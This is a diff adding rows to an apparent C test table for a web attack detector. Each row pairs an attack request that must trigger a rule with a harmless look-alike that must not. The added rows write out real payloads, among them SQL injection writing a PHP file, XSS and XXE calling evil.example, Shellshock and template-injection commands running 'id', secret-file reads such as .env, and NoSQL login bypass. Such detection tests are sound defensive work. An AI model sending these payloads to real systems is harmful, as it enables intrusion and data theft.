@@ -85,6 +85,13 @@ struct row {
 			"\r\n--b0--\r\n",                                        \
 			NULL, NULL                                               \
 	}
+/* A body of content type @ct. */
+#define BODY(u, ct, b)                                       \
+	{                                                    \
+		"POST", u, "Content-Type", ct, b, NULL, NULL \
+	}
+#define JSON(u, b) BODY(u, "application/json", b)
+#define XML(u, b) BODY(u, "application/xml", b)
 /* Outbound: @comm (@exe) sent @m @u to Host @host with @b. */
 #define OUT(comm, exe, m, u, host, b)            \
 	{                                        \
@@ -285,6 +292,81 @@ static const struct row rows[] = {
 	  HDR("User-Agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine; "
 			    "https://nmap.org/book/nse.html)"),
 	  HDR("X-Tool", "nmap") },
+	/* 100104: the database's catalog, files, error-based extraction */
+	{ 100104, GET("/item?id=1+and+extractvalue(1,concat(0x7e,user()))"),
+	  GET("/search?q=extract+value+from+xml") },
+	{ 100104,
+	  GET("/item?id=1+and+1=(select+count(*)+from+information_schema."
+	      "tables)"),
+	  GET("/docs?topic=information+schema+design") },
+	{ 100104, POST("/item", "id=1'+into+outfile+'/var/www/s.php"),
+	  POST("/post", "text=put+it+into+a+file+on+the+desk") },
+	/* 100203: frames, objects, script URLs */
+	{ 100203, GET("/c?m=<iframe+src=//evil.example/x>"),
+	  GET("/docs?q=List<Object>+in+Java") },
+	{ 100203, GET("/go?url=vbscript:msgbox(1)"),
+	  GET("/search?q=vbscript+tutorial") },
+	{ 100203, GET("/c?m=<object+data=data:text/html;base64,PHNjcmlwdD4>"),
+	  GET("/c?m=<b>bold</b>+and+<i>italic</i>") },
+	{ 100203, GET("/c?m=<base+href=//evil.example/>"),
+	  GET("/search?q=<base>+case+of+a+recursion") },
+	/* 100302: PHP wrappers, secret files */
+	{ 100302,
+	  GET("/index.php?page=php://filter/convert.base64-encode/"
+	      "resource=index"),
+	  GET("/docs?q=php+filter+functions") },
+	{ 100302, GET("/.git/config"), GET("/blog/.github-actions-guide") },
+	{ 100302, GET("/.env"), GET("/environment/settings") },
+	{ 100302, GET("/download?f=../wp-config.php"),
+	  GET("/wp-content/themes/config/page") },
+	/* 100404, 100405: Shellshock, server-side includes */
+	{ 100404, HDR("User-Agent", "() { :; }; /bin/bash -c 'id'"),
+	  HDR("X-Code", "function () { return 1; }") },
+	{ 100404, GET("/cgi-bin/status?x=()+{+:;+};+echo+hi"),
+	  GET("/search?q=()+are+parentheses") },
+	{ 100405, POST("/comment", "text=<!--%23exec+cmd=%22id%22+-->"),
+	  POST("/comment", "text=<!--+a+comment+-->+%23hashtag") },
+	/* 1010xx other injections */
+	{ 101000,
+	  XML("/api/xml", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x "
+			  "SYSTEM \"file:///etc/hostname\">]><r>&x;</r>"),
+	  XML("/api/xml",
+	      "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" "
+	      "\"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">"
+	      "<html></html>") },
+	{ 101000,
+	  XML("/api/xml", "<!DOCTYPE r [<!ENTITY % p SYSTEM "
+			  "\"http://evil.example/x.dtd\"> %p;]><r/>"),
+	  XML("/api/xml", "<note>Declare an <!ENTITY> in the DTD</note>") },
+	{ 101001, GET("/hello?name={{7*7}}"), GET("/hello?name={{name}}") },
+	{ 101001,
+	  GET("/hello?name={{''.__class__.__mro__[1].__subclasses__()}}"),
+	  GET("/docs?q=python+__class__+attribute") },
+	{ 101001, GET("/p?x=${T(java.lang.Runtime).getRuntime().exec('id')}"),
+	  GET("/p?x=${total}+runtime") },
+	{ 101002, HDR("Cookie", "session=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA"),
+	  HDR("Cookie", "session=aGVsbG8gd29ybGQ; ro0=1") },
+	{ 101002, POST("/api", "data=aced0005737200"),
+	  GET("/color?hex=aced00") },
+	{ 101003, HDR("X-Forwarded-For", "%{(#cmd='id')}"),
+	  HDR("X-Discount", "50%{off}") },
+	{ 101003,
+	  POST("/user", "class.module.classLoader.resources.context.parent."
+			"pipeline.first.pattern=x"),
+	  POST("/user", "class=premium&module=billing") },
+	{ 101004,
+	  POST("/profile",
+	       "data=O:8:%22stdClass%22:1:{s:4:%22user%22;s:5:%22admin%22;}"),
+	  POST("/profile", "data=a:1:{s:4:%22user%22;s:3:%22ann%22;}") },
+	{ 101005, GET("/api?__proto__[admin]=1"),
+	  GET("/docs?q=proto+buffers") },
+	{ 101005, GET("/api?constructor[prototype][admin]=1"),
+	  GET("/docs?q=constructor+and+prototype") },
+	{ 101006, POST("/login", "user=admin&pass[$ne]=x"),
+	  POST("/shop", "price=$5&qty[]=2") },
+	{ 101006,
+	  JSON("/login", "{\"user\":\"admin\",\"pass\":{\"$ne\":null}}"),
+	  JSON("/shop", "{\"price\":\"$ne\",\"qty\":2}") },
 };
 
 /* Ordinary traffic: nothing may fire. */
